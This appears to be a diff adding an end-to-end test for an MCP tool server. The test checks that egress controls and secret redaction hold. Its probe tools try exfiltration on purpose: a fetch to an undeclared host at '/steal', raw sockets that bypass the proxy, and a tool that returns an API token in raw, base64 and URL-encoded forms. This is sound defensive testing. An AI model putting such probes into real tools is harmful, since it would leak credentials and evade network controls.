@@ -1,0 +1,341 @@
+// End to end, in the egress world (test/harness/egress-world.ts): `mcpworks serve` runs
+// examples/tools-api as shipped, the official SDK client is the agent, and the world's HTTPS
+// server plays the ticket service (tickets-api.ts). Both example tools reach the API with the
+// token from their secretEnv; the token reaches the outside and never the agent; every other
+// way out (another host, names resolving to private or loopback addresses, a raw IP, a socket
+// or a datagram without the proxy, a tool without egress) fails, and the world saw nothing of it.
+// Outside a world this file runs itself inside one (runTestFileInWorld).
+import assert from 'node:assert/strict';
+import { copyFile, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { stringify } from 'yaml';
+import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import {
+  insideEgressWorld,
+  runTestFileInWorld,
+  specTotals,
+  WORLD,
+  WORLD_CA,
+  worldLeftovers,
+  type WorldEvent,
+} from '../harness/egress-world.ts';
+import { connectClient, startServe, waitForDecisions, type RunningServe } from './serve-harness.ts';
+import { EXAMPLE_DIR, exampleToken, KNOWN_TICKET, NEW_TICKET_ID } from './tickets-api.ts';
+
+const world = insideEgressWorld();
+const TICKETS_API = fileURLToPath(new URL('./tickets-api.ts', import.meta.url));
+
+/** The agent key published in examples/tools-api/api-keys.yaml. */
+async function exampleAgentKey(): Promise<string> {
+  const text = await readFile(join(EXAMPLE_DIR, 'api-keys.yaml'), 'utf8');
+  const key = /Authorization: Bearer (mcpw_\S+)/.exec(text)?.[1];
+  if (!key) throw new Error('examples/tools-api/api-keys.yaml publishes no key');
+  return key;
+}
+
+const TOKEN_SECRET = {
+  name: 'TICKET_API_TOKEN',
+  secretKeyRef: { name: 'ticket-api-token', key: 'token' },
+};
+
+const PY_FETCH = `
+import os, urllib.request
+def main(args):
+    request = urllib.request.Request(args["url"], headers={"Authorization": "Bearer " + os.environ.get("TICKET_API_TOKEN", "")})
+    with urllib.request.urlopen(request, timeout=10) as response:
+        return {"status": response.status, "body": response.read().decode()}
+`;
+
+const NODE_FETCH = `
+async function main(args) {
+  const response = await fetch(args.url, {
+    headers: { authorization: 'Bearer ' + (process.env.TICKET_API_TOKEN ?? '') },
+    signal: AbortSignal.timeout(10000),
+  });
+  return { status: response.status, body: await response.text() };
+}
+`;
+
+// Connects without the proxy: a TCP socket and a UDP datagram straight to the API's address.
+const RAW_SOCKETS = `
+import errno, socket
+def attempt(fn):
+    try:
+        fn()
+        return "ok"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+def tcp(address, port):
+    s = socket.create_connection((address, port), timeout=5)
+    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+    s.close()
+def udp(address, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"probe", (address, port))
+    s.close()
+def main(args):
+    return {
+        "tcp": attempt(lambda: tcp(args["address"], 443)),
+        "udp": attempt(lambda: udp(args["address"], 53)),
+    }
+`;
+
+// A careless tool: returns the secret as it is, base64- and URL-encoded, or fails with it.
+const LEAK_TOKEN = `
+import base64, os, urllib.parse
+def main(args):
+    token = os.environ["TICKET_API_TOKEN"]
+    if args.get("fail"):
+        raise RuntimeError("the API refused token " + token)
+    return {
+        "raw": token,
+        "base64": base64.b64encode(token.encode()).decode(),
+        "url": urllib.parse.quote("token=" + token + "&x=1"),
+        "sentence": "I used " + token + " for that",
+    }
+`;
+
+/**
+ * Test-only tools beside the example, on their own McpServer with the example's agent key: the
+ * fetchers are allowed the API host and the two names that resolve inside (so that a refusal
+ * there is the proxy's address check, not the allowlist).
+ */
+function probeManifests(): string {
+  const insideNames = [WORLD.apiHost, WORLD.privateHost, WORLD.loopbackHost].map((host) => ({
+    host,
+    ports: [443],
+  }));
+  const object = { type: 'object', additionalProperties: true };
+  const tool = (name: string, runtime: string, code: string, extra: object = {}) => ({
+    name,
+    description: `egress probe ${name}`,
+    runtime,
+    inputSchema: object,
+    timeoutSeconds: 20,
+    code,
+    ...extra,
+  });
+  const server = {
+    apiVersion: 'mcpworks.io/v1alpha1',
+    kind: 'McpServer',
+    metadata: { name: 'egress-probe', namespace: 'support' },
+    spec: {
+      auth: { apiKeys: { secretRef: { name: 'tickets-api-keys' } } },
+      tools: [
+        tool('py_fetch', 'python', PY_FETCH, { egress: insideNames, secretEnv: [TOKEN_SECRET] }),
+        tool('node_fetch', 'node', NODE_FETCH, { egress: insideNames, secretEnv: [TOKEN_SECRET] }),
+        tool('raw_sockets', 'python', RAW_SOCKETS, { egress: [{ host: WORLD.apiHost }] }),
+        tool('no_egress_fetch', 'python', PY_FETCH),
+        tool('leak_token', 'python', LEAK_TOKEN, { secretEnv: [TOKEN_SECRET] }),
+      ],
+    },
+  };
+  const policy = {
+    apiVersion: 'mcpworks.io/v1alpha1',
+    kind: 'AgentPolicy',
+    metadata: { name: 'support-bot-probes', namespace: 'support' },
+    spec: {
+      servers: { names: ['egress-probe'] },
+      rules: [
+        {
+          effect: 'Allow',
+          subjects: [{ kind: 'Agent', name: 'support-bot' }],
+          tools: ['*'],
+          reason: 'the egress tests probe every way out',
+        },
+      ],
+    },
+  };
+  return `${stringify(server)}---\n${stringify(policy)}`;
+}
+
+if (!world) {
+  test('the example and the egress attacks, in a world of their own, leave nothing behind', async () => {
+    const run = await runTestFileInWorld(fileURLToPath(import.meta.url), { app: TICKETS_API });
+    const totals = specTotals(run.output);
+    assert.equal(run.code, 0, run.output);
+    assert.ok(totals.pass > 0 && totals.pass === totals.tests, run.output);
+    assert.deepEqual([totals.fail, totals.skipped, totals.todo, totals.cancelled], [0, 0, 0, 0]);
+    assert.deepEqual(worldLeftovers(run), []);
+    // The outside only ever heard from the example's two tools, at the API host, with the token.
+    const requests = run.events.filter((e) => e.kind === 'request');
+    assert.ok(requests.length >= 2, JSON.stringify(run.events));
+    for (const r of requests) {
+      assert.equal(r.servername, WORLD.apiHost, JSON.stringify(r));
+      assert.equal(r.localAddress, WORLD.apiAddress, JSON.stringify(r));
+    }
+  });
+} else {
+  const inside = world;
+  let serve: RunningServe;
+  let client: Client;
+  let probes: Client;
+  const token = exampleToken();
+
+  before(async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'mcpworks-tools-api-'));
+    for (const name of await readdir(EXAMPLE_DIR)) {
+      if (name.endsWith('.yaml') && name !== 'kustomization.yaml') {
+        await copyFile(join(EXAMPLE_DIR, name), join(dir, name));
+      }
+    }
+    await writeFile(join(dir, 'probes.yaml'), probeManifests());
+    serve = await startServe([dir], ['--ca-bundle', WORLD_CA]);
+    const key = await exampleAgentKey();
+    client = await connectClient(`${serve.base}/mcp/support/tickets`, key);
+    probes = await connectClient(`${serve.base}/mcp/support/egress-probe`, key);
+  });
+  after(async () => {
+    await client?.close();
+    await probes?.close();
+    await serve?.stop();
+  });
+
+  /** Calls a tool and returns its result and the world events it caused. */
+  async function call(
+    on: Client,
+    name: string,
+    args: Record<string, unknown>,
+  ): Promise<{ result: Awaited<ReturnType<Client['callTool']>>; events: WorldEvent[] }> {
+    const before = inside.events().length;
+    const result = await on.callTool({ name, arguments: args });
+    return { result, events: inside.events().slice(before) };
+  }
+
+  const text = (result: Awaited<ReturnType<Client['callTool']>>) => JSON.stringify(result);
+
+  test('the agent sees the two example tools', async () => {
+    const names = (await client.listTools()).tools.map((t) => t.name).sort();
+    assert.deepEqual(names, ['create_ticket', 'get_ticket']);
+  });
+
+  test('get_ticket (python, urllib) reaches the API with the token and returns the ticket', async () => {
+    const { result, events } = await call(client, 'get_ticket', { id: KNOWN_TICKET.id });
+    assert.equal(result.isError, false, text(result));
+    assert.deepEqual(result.structuredContent, KNOWN_TICKET);
+    const requests = events.filter((e) => e.kind === 'request');
+    assert.equal(requests.length, 1, JSON.stringify(events));
+    const [seen] = requests;
+    assert.equal(seen!.method, 'GET');
+    assert.equal(seen!.path, `/api/v1/tickets/${KNOWN_TICKET.id}`);
+    assert.equal(seen!.servername, WORLD.apiHost);
+    assert.equal(seen!.localAddress, WORLD.apiAddress);
+    // The secret reached the tool and, through it, the outside.
+    assert.equal(seen!.headers.authorization, `Bearer ${token}`);
+    assert.ok(!text(result).includes(token));
+  });
+
+  test('create_ticket (node, fetch) reaches the API with the token and returns the new id', async () => {
+    const { result, events } = await call(client, 'create_ticket', {
+      title: 'Printer on fire',
+      description: 'third floor',
+    });
+    assert.equal(result.isError, false, text(result));
+    assert.deepEqual(result.structuredContent, { id: NEW_TICKET_ID, status: 'open' });
+    const requests = events.filter((e) => e.kind === 'request');
+    assert.equal(requests.length, 1, JSON.stringify(events));
+    const [seen] = requests;
+    assert.equal(seen!.method, 'POST');
+    assert.equal(seen!.path, '/api/v1/tickets');
+    assert.equal(seen!.servername, WORLD.apiHost);
+    assert.equal(seen!.headers.authorization, `Bearer ${token}`);
+    assert.deepEqual(JSON.parse(seen!.body), {
+      title: 'Printer on fire',
+      description: 'third floor',
+    });
+    assert.ok(!text(result).includes(token));
+  });
+
+  test('a tool error from the API (404) reaches the agent as an error, without the token', async () => {
+    const { result, events } = await call(client, 'get_ticket', { id: 'TCK-9' });
+    assert.equal(result.isError, true, text(result));
+    assert.match(text(result), /answered 404 for TCK-9/);
+    assert.equal(events.filter((e) => e.kind === 'request').length, 1);
+    assert.ok(!text(result).includes(token));
+  });
+
+  test('a tool that returns the token: every form of it is redacted before the agent sees it', async () => {
+    const { result } = await call(probes, 'leak_token', {});
+    assert.equal(result.isError, false, text(result));
+    const forms = [
+      token,
+      Buffer.from(token).toString('base64'),
+      encodeURIComponent(token),
+      encodeURIComponent(`token=${token}&x=1`),
+    ];
+    for (const form of forms) assert.ok(!text(result).includes(form), `${form} in ${text(result)}`);
+    assert.match(text(result), /I used .+ for that/);
+  });
+
+  test('a tool that fails with the token in its message: the error is redacted too', async () => {
+    const { result } = await call(probes, 'leak_token', { fail: true });
+    assert.equal(result.isError, true, text(result));
+    assert.match(text(result), /the API refused token/);
+    assert.ok(!text(result).includes(token), text(result));
+  });
+
+  for (const fetcher of ['py_fetch', 'node_fetch']) {
+    test(`${fetcher}: the allowed host works through the same proxy (control)`, async () => {
+      const { result, events } = await call(probes, fetcher, {
+        url: `https://${WORLD.apiHost}/api/v1/tickets/${KNOWN_TICKET.id}`,
+      });
+      assert.equal(result.isError, false, text(result));
+      assert.match(text(result), /VPN drops every 20 minutes/);
+      assert.equal(events.filter((e) => e.kind === 'request').length, 1);
+    });
+
+    const refused: [string, string][] = [
+      ['a host the tool did not declare', `https://${WORLD.otherHost}/steal`],
+      ['an allowed name that resolves to a private address', `https://${WORLD.privateHost}/`],
+      ['an allowed name that resolves to loopback', `https://${WORLD.loopbackHost}/`],
+      ['a raw IP address', `https://${WORLD.apiAddress}/api/v1/tickets/${KNOWN_TICKET.id}`],
+      [
+        'plain http to the allowed host',
+        `http://${WORLD.apiHost}/api/v1/tickets/${KNOWN_TICKET.id}`,
+      ],
+    ];
+    for (const [what, url] of refused) {
+      test(`${fetcher}: ${what} fails and the outside hears nothing`, async () => {
+        const { result, events } = await call(probes, fetcher, { url });
+        assert.equal(result.isError, true, text(result));
+        assert.deepEqual(events, []);
+        assert.ok(!text(result).includes(token));
+      });
+    }
+  }
+
+  test('a TCP socket or a UDP datagram that bypasses the proxy gets nowhere', async () => {
+    const { result, events } = await call(probes, 'raw_sockets', { address: WORLD.apiAddress });
+    assert.equal(result.isError, false, text(result));
+    const outcome = result.structuredContent as { tcp: string; udp: string };
+    assert.notEqual(outcome.tcp, 'ok', text(result));
+    assert.notEqual(outcome.udp, 'ok', text(result));
+    assert.deepEqual(events, []);
+  });
+
+  test('a tool without egress has no network at all, even to the API host', async () => {
+    const { result, events } = await call(probes, 'no_egress_fetch', {
+      url: `https://${WORLD.apiHost}/api/v1/tickets/${KNOWN_TICKET.id}`,
+    });
+    assert.equal(result.isError, true, text(result));
+    assert.deepEqual(events, []);
+  });
+
+  test('the decision log records the calls and never holds the token', async () => {
+    const records = await waitForDecisions(serve, 1);
+    const calls = records.filter((r) => r.method === 'tools/call');
+    for (const tool of ['get_ticket', 'create_ticket', 'leak_token', 'py_fetch', 'node_fetch']) {
+      assert.ok(
+        calls.some((r) => r.tool === tool && r.effect === 'Allow'),
+        `no Allow record for ${tool}`,
+      );
+    }
+    const log = await readFile(serve.decisionLog, 'utf8');
+    assert.ok(!log.includes(token), 'the token is in the decision log');
+    assert.ok(!log.includes(Buffer.from(token).toString('base64')));
+    assert.ok(!serve.stderr().includes(token), 'the token is in the log');
+  });
+}
